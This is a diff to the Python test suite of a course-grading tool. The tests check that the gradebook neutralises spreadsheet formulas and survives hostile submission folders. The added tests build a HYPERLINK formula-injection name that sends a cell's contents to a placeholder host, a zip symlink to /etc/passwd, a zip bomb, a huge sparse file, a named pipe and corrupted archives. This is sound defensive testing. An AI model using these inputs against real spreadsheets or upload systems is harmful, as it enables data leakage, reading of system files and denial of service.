@@ -1,7 +1,10 @@
 """What comes of grading: tables, pages for students and teachers, copies found; and whose work is whose."""
 
+import csv
+import io
 import json
 import os
+import stat
 import zipfile
 from html import escape
 from pathlib import Path
@@ -10,6 +13,7 @@ import pytest
 
 from utils.course.__main__ import main
 from utils.course.grading import feedback, gradebook, roster, similar, summary
+from utils.course.grading.submission import LARGEST
 from utils.course.labs import points_of, read_lab, solution_lines
 from utils.course.notebook import text_of
 
@@ -24,10 +28,31 @@ def load(path: Path) -> dict:
 # The gradebook
 
 
-@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@x", "  =1", "\t=1"])
+@pytest.mark.parametrize(
+    "cell", ["=1+1", "+1", "-1", "@x", "  =1", "\t=1", "\r=1", "\ufeff=1", "\u200b@x", "\x00-1", "＝1", "\n\n+1"]
+)
 def test_no_cell_is_a_formula(cell):
     assert gradebook.harmless(cell).startswith("'")
-    assert gradebook.harmless(-1) == -1 and gradebook.harmless("a=1") == "a=1"
+    assert gradebook.harmless(-1) == -1 and gradebook.harmless("a=1") == "a=1" and gradebook.harmless("") == ""
+
+
+def test_no_table_has_a_formula_whatever_a_student_is_called(tmp_path):
+    name = '=HYPERLINK("http://x/?"&A1,"click")'
+    book = load(ROOT / "labs" / LAB.name)
+    record = record_of(book, {}, student=name, id="@7", file=f"{name}.ipynb", notes=["+1", "-2"])
+    gradebook.write_tables(tmp_path, [record])
+    tables = list(tmp_path.glob("*.csv"))
+    assert len(tables) == 4
+    for path in tables:
+        for row in csv.reader(io.StringIO(path.read_text(), newline="")):
+            assert not [cell for cell in row if cell.startswith(tuple("=+-@"))], path.name
+        assert f"'{name}" in [cell for row in csv.reader(io.StringIO(path.read_text(), newline="")) for cell in row]
+
+
+def test_half_a_character_is_written_and_read_back(tmp_path):
+    record = {"student": "\udce9", "lab": "01", "key": "x", "earned": 0, "checks": [], "code": {"a": "\ud800"}}
+    gradebook.write_record(tmp_path, record)
+    assert gradebook.records(tmp_path) == [record]
 
 
 def test_a_record_is_replaced_whole_or_not_at_all(tmp_path, monkeypatch):
@@ -74,9 +99,65 @@ def test_zips_are_read_as_folders_are(tmp_path):
     assert all("/" not in work.key for work in found.values()) and len(found) == 2
     (tmp_path / "class").mkdir()
     (tmp_path / "class" / "bob.zip").write_bytes(b"PK no zip")
-    (tmp_path / "class" / "eve.ipynb").symlink_to("/etc/passwd")
-    (bob,) = roster.works(tmp_path / "class", [lab])
-    assert bob.student == "bob" and "the zip cannot be read" in bob.problem
+    (tmp_path / "class" / "ada.ipynb").write_text(LAB.read_text())
+    ada, bob = roster.works(tmp_path / "class", [lab])
+    assert (ada.problem, bob.student) == ("", "bob") and "the zip cannot be read" in bob.problem
+
+
+def broken_zip(path: Path) -> None:
+    """A zip of one notebook whose packed bytes were changed."""
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("lab.ipynb", LAB.read_text())
+    data = bytearray(path.read_bytes())
+    data[200:260] = bytes(60)
+    path.write_bytes(data)
+
+
+@pytest.mark.slow
+def test_whatever_lies_in_the_folder_costs_its_own_student_only(tmp_path):
+    folder = tmp_path / "class"
+    (folder / "nothing").mkdir(parents=True)
+    (folder / "nothing" / "lab.pdf").write_text("")
+    (folder / ".git").mkdir()
+    (folder / "link.ipynb").symlink_to(LAB)
+    os.mkfifo(folder / "pipe.ipynb")
+    with (folder / "sparse.ipynb").open("wb") as file:
+        file.truncate(1 << 40)
+    broken_zip(folder / "torn.zip")
+    link = zipfile.ZipInfo("lab.ipynb")
+    link.external_attr = (stat.S_IFLNK | 0o777) << 16
+    with zipfile.ZipFile(folder / "zipped link.zip", "w") as archive:
+        archive.writestr(link, "/etc/passwd")
+    with zipfile.ZipFile(folder / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("lab.ipynb", bytes(300 << 20))
+    with zipfile.ZipFile(folder / "empty.zip", "w"):
+        pass
+    with zipfile.ZipFile(folder / "many.zip", "w") as archive:
+        for number in range(200):
+            archive.writestr(f"{number}.ipynb", "{}")
+        archive.writestr("999.ipynb", LAB.read_text())
+    (folder / os.fsdecode(b"caf\xe9.ipynb")).write_text(LAB.read_text())
+    (folder / "ada.ipynb").write_text(LAB.read_text())
+    found = {work.student: work for work in roster.works(folder, [read_lab(LAB)])}
+    problems = {student: work.problem for student, work in found.items()}
+    assert set(problems) == {"nothing", "link", "pipe", "sparse", "torn", "zipped link", "bomb", "empty", "many",
+                             "ada", "caf\udce9"}  # fmt: skip
+    assert problems["nothing"] == "no notebook was handed in" and problems["empty"] == "no notebook is in the zip"
+    assert problems["link"] == "a link, not a file" and problems["pipe"] == "a device, not a file"
+    assert "cannot be unpacked" in problems["torn"]
+    assert found["zipped link"].read() == b"/etc/passwd"
+    assert len(found["sparse"].read()) == len(found["bomb"].read()) == LARGEST + 1
+    assert found["many"].notes[-1].startswith("of 201 notebooks only the first 50")
+    assert problems["ada"] == problems["caf\udce9"] == "" and len({work.key for work in found.values()}) == 11
+
+
+def test_two_students_of_one_name_stay_two(tmp_path):
+    for number in (1, 2):
+        path = tmp_path / f"Ada Lovelace_{number}_assignsubmission_file_" / "lab.ipynb"
+        path.parent.mkdir()
+        path.write_text(LAB.read_text().replace("contiguous_strides", f"strides{number}"))
+    one, two = roster.works(tmp_path, [read_lab(LAB)])
+    assert (one.id, two.id) == ("1", "2") and one.key != two.key and one.digest != two.digest
 
 
 def test_nothing_handed_in_is_said(tmp_path):
